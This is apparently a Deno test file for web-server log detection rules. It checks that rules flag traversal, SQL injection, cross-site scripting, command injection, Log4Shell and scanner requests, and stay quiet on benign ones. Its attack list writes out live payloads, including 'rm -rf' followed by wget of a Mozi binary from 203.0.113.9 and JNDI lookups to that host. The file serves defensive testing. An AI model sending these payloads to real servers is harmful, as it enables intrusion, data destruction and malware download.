/** Requests as web servers log them, through the decoder and every shipped rule: each attack is found, by its rule and no other. */

import { deepStrictEqual } from "node:assert/strict";
import { fireLines } from "./shipped_lines.ts";

interface Request {
  readonly url: string;
  readonly method?: string;
  readonly status?: number;
  readonly referrer?: string;
  readonly agent?: string;
}

const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/** A line of the combined format; each an hour after the one before, from an address of its own. */
function accessLine(
  { url, method = "GET", status = 404, referrer = "-", agent = BROWSER }: Request,
  i: number,
): string {
  const at = new Date(Date.UTC(2026, 9, 1, i)).toISOString();
  const stamp = `${at.slice(8, 10)}/Oct/2026:${at.slice(11, 19)} +0000`;
  return `198.51.100.${i % 250} - - [${stamp}] "${method} ${url} HTTP/1.1" ${status} 321 "${referrer}" "${agent}"`;
}

type Row = readonly [request: string | Request, rules: string];

const TRAVERSAL = "path-traversal";
const SQL = "sql-injection";
const XSS = "cross-site-scripting";
const COMMAND = "command-injection";

/** What each request is, and the rules that fire on it. */
const ATTACKS: readonly Row[] = [
  ["/../../../../etc/passwd", TRAVERSAL],
  ["/download.php?f=....//....//etc/hosts", TRAVERSAL],
  ["/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", `${COMMAND} ${TRAVERSAL}`],
  ["/%2e%2e%2f%2e%2e%2fwindows/win.ini", TRAVERSAL],
  ["/%252e%252e%252f%252e%252e%252fetc%252fpasswd", TRAVERSAL],
  ["/icons/%25252e%25252e/x", TRAVERSAL],
  ["/scripts/..%c1%1c../x?a=..%c0%afetc", TRAVERSAL],
  ["/..%5c..%5cboot.ini", TRAVERSAL],
  ["/manager/..;/html", TRAVERSAL],
  ["/view?page=php://filter/convert.base64-encode/resource=config", TRAVERSAL],
  ["/view?page=%2Fproc%2Fself%2Fenviron", TRAVERSAL],
  [{ url: "/view?page=../../../../etc/passwd", status: 200 }, `${TRAVERSAL} secret-file-served`],
  ["/news?id=-1+union+all+select+1,2,3--", SQL],
  ["/news?id=1%27%20UnIoN%20SeLeCt%20null,null--%20-", SQL],
  ["/news?id=1%2527%2520UNION%2520SELECT%25201", SQL],
  ["/news?id=1/**/and/**/1=1/**/union/**/select/**/1", SQL],
  ["/news?id=1'%20or%20'1'='1", SQL],
  ["/news?id=1%20or%201%3d1", SQL],
  ["/news?id=1;waitfor%20delay%20'0:0:5'--", SQL],
  ["/news?id=(select(0)from(select(sleep(15)))v)", SQL],
  ["/news?id=1%20AND%20extractvalue(1,concat(0x7e,version()))", SQL],
  ["/news?id=1;%20DROP%20TABLE%20users", SQL],
  ["/news?id=1+and+1=2+from+information_schema.tables", SQL],
  ["/news?id=1'%0bor%0b1=1%0b--", SQL],
  ["/s?q=<script>alert(1)</script>", XSS],
  ["/s?q=%3cscript%3ealert(document.cookie)%3c/script%3e", XSS],
  ["/s?q=%253Cscript%253E", XSS],
  ["/s?q=%22%3E%3Csvg/onload=confirm(1)%3E", XSS],
  ["/s?q=\\x22><iMg SrC=x OnErRoR=alert`1`>", XSS],
  ["/s?q=%3Ciframe%20src%3D%22javascript%3Aalert(1)%22%3E", XSS],
  ["/ping?ip=1.1.1.1;cat%20/etc/hosts", COMMAND],
  ["/ping?ip=1.1.1.1%7Cwhoami", COMMAND],
  ["/ping?ip=$(curl+203.0.113.9)", COMMAND],
  ["/ping?ip=%60id%60", COMMAND],
  ["/ping?ip=1.1.1.1%26%26wget+http://203.0.113.9/x", COMMAND],
  ["/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/mozi.a;chmod+777+mozi.a", COMMAND],
  ["/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", `${COMMAND} ${TRAVERSAL}`],
  ["/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array", COMMAND],
  [{ url: "/cgi-bin/x", agent: "() { :;}; echo vulnerable" }, COMMAND],
  [{ url: "/cgi-bin/x", referrer: "() { ignored; }; /bin/ls" }, COMMAND],
  [{ url: "/", agent: "${jndi:ldap://203.0.113.9:1389/a}" }, "log4shell"],
  [{ url: "/", referrer: "${${::-j}${::-n}di:rmi://203.0.113.9/a}" }, "log4shell"],
  ["/?x=$%7Bjndi:dns://203.0.113.9/a%7D", "log4shell"],
  ["/?x=%24%7B%6A%6E%64%69%3Aldap://203.0.113.9/a%7D", "log4shell"],
  [{ url: "/", agent: "sqlmap/1.8" }, "web-scanner"],
  [
    { url: "/", agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)" },
    "web-scanner",
  ],
  [{ url: "/.env", status: 200 }, "secret-file-served"],
  [{ url: "/.git/config", status: 200 }, "secret-file-served"],
  [{ url: "/x.jsp/", method: "PUT", status: 201 }, ""],
  [{ url: "/x.jsp", method: "PUT", status: 201 }, "script-uploaded"],
  [{ url: "/wp-content/uploads/2026/10/a.php?cmd=id", status: 200 }, `${COMMAND} script-uploaded`],
];

/** Requests in which nothing is wrong, though words in them are others' too. */
const ORDINARY: readonly (string | Request)[] = [
  "/",
  "/index.html?utm_source=newsletter&utm_medium=e-mail",
  "/search?q=rock+and+roll+or+jazz",
  "/search?q=O%27Brien+%26+Sons",
  "/search?q=%22exact+phrase%22",
  "/search?q=select+the+best+union+hotel+from+10",
  "/search?q=drop+in+table+tennis",
  "/search?q=1%2B1%3D2",
  "/search?q=50%25+off",
  "/search?q=a%3Cb%3Ec",
  "/search?q=caf%C3%A9+r%C3%A9sum%C3%A9",
  "/api/v1/items?filter=name%20eq%20%27x%27%20and%20price%20gt%2010",
  "/api/v1/items?sort=order&by=1&sleep=5",
  "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
  "/assets/app.3f2a1b.js",
  "/assets/../assets/logo.png",
  "/docs/etc/passwd-management.html",
  "/docs/shell-scripts/bash-history.html",
  "/docs/sql/union-select.html",
  "/javascript:void(0)",
  "/login?next=%2Faccount%2F%3Ftab%3D1",
  "/redirect?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc",
  "/oauth/callback?code=4/0Ab_c-d%2Fe&state=xyz%3D%3D",
  "/.well-known/acme-challenge/abc",
  "/robots.txt",
  "/wp-content/uploads/2026/10/picture.jpg",
  "/onload=1.html",
  "/whoami",
  "/c++/reference?a+b",
  { url: "/report", agent: "curl/8.5.0", status: 200 },
  { url: "/report", agent: "Wget/1.21.4", status: 200 },
  { url: "/", agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", status: 200 },
  { url: "/dav/notes.txt", method: "PUT", status: 201 },
  { url: "/.env", status: 403 },
  { url: "/index.php", method: "POST", status: 200, referrer: "https://example.com/login?next=/" },
];

const asRequest = (request: string | Request): Request => typeof request === "string" ? { url: request } : request;

Deno.test("each attack in a request is found by its rules and by no other", async () => {
  const fired = await fireLines(ATTACKS.map(([request], i) => accessLine(asRequest(request), i)), "access");
  const found = ATTACKS.map(([request], i) => [
    request,
    fired.filter(({ line }) => line === i + 1).map(({ rule }) => rule).sort().join(" "),
  ]);
  deepStrictEqual(found, ATTACKS);
});

Deno.test("requests of every day are silent", async () => {
  const lines = ORDINARY.map((request, i) => accessLine(asRequest(request), i));
  deepStrictEqual((await fireLines(lines, "access")).map(({ rule, line }) => [rule, ORDINARY[line - 1]]), []);
});
